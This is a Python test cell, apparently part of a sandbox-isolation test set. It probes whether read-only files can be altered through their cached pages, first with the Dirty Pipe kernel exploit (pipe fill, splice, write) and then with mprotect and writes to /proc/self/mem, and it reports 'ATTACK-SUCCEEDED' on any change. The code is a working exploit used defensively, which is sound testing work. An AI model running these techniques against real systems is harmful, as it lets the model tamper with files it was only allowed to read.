"""Writes into files that it may only read, through their cached pages: by a pipe that was filled before (Dirty Pipe), and by its own memory.

base: unsolved
max-score: 0
canary: none
"""
# %% q1
import ctypes
import mmap
import os

changed = []
for path in ("data/boston-house-prices.csv", os.path.join(os.path.dirname(os.__file__), "LICENSE.txt")):
    try:
        descriptor = os.open(path, os.O_RDONLY)
        before = os.pread(descriptor, 64, 0)
    except OSError:
        continue
    for offset, letter in ((1, b"#"), (1, before[1:2])):  # the second time puts it back
        receive, send = os.pipe()
        try:
            os.set_blocking(send, False)
            filled = 0
            while True:
                try:
                    filled += os.write(send, b"x" * 4096)
                except BlockingIOError:
                    break
            while filled > 0:
                filled -= len(os.read(receive, 4096))
            os.splice(descriptor, send, 1, offset_src=offset - 1)
            os.write(send, letter)
        except OSError:
            pass
        finally:
            os.close(receive)
            os.close(send)
        if os.pread(descriptor, 64, 0) != before:
            changed.append(path)
    try:
        shared = mmap.mmap(descriptor, 0, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)
        place = int(next(line for line in open("/proc/self/maps") if os.path.basename(path) in line).split("-")[0], 16)
        if ctypes.CDLL(None).mprotect(ctypes.c_void_p(place), 4096, 3) == 0:
            changed.append(f"{path} made writable")
        with open("/proc/self/mem", "r+b", 0) as memory:
            memory.seek(place)
            memory.write(before[:1])
            changed.append(f"{path} by /proc/self/mem")
    except (OSError, StopIteration, ValueError):
        pass
    os.close(descriptor)
if changed:
    raise RuntimeError("-".join(["ATTACK", "SUCCEEDED"]) + f": {changed}")
